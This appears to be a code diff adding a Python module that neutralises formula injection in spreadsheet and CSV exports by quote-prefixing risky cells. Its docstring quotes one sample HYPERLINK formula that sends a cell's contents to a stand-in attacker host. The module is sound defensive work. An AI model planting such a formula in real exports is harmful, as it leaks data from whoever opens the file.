@@ -1,0 +1,44 @@
+"""Rows written to spreadsheets and CSV files so that opening them is safe.
+
+A participant chooses their own company name and note. In Excel or LibreOffice a cell whose
+text starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is a formula:
+`=HYPERLINK("http://evil.example/?c="&B2,"Open catalogue")` would become a live link that
+sends the neighbouring cell away. Following OWASP's CSV-injection guidance, such text is
+written as text: in a workbook the cell is typed as a string and flagged "quote prefix" (what
+Excel itself does when you type `'=...`), so the text shows exactly as typed; in a CSV file it
+gets a leading single quote. Every writer of the project goes through `append_row` or
+`csv_row` (the organizer's workbook, the invites file, the fair's results).
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterable
+
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+from openpyxl.worksheet.worksheet import Worksheet
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def is_risky(value: object) -> bool:
+    """Whether a spreadsheet would read this value as a formula."""
+    return isinstance(value, str) and value.startswith(FORMULA_STARTS)
+
+
+def append_row(sheet: Worksheet, values: Iterable[object]) -> None:
+    """Appends one row; text is never a formula, and characters Excel's XML cannot hold
+    (from rows stored before they were cleaned, see store/text.py) are left out rather than
+    failing the whole workbook."""
+    row = [ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in values]
+    sheet.append(row)
+    number = sheet.max_row
+    for column, value in enumerate(row, start=1):
+        if is_risky(value):
+            cell = sheet.cell(number, column)
+            cell.data_type = "s"
+            cell.quotePrefix = True
+
+
+def csv_row(values: Iterable[object]) -> list[object]:
+    """One CSV row with each risky text prefixed by a single quote."""
+    return [f"'{v}" if is_risky(v) else v for v in values]
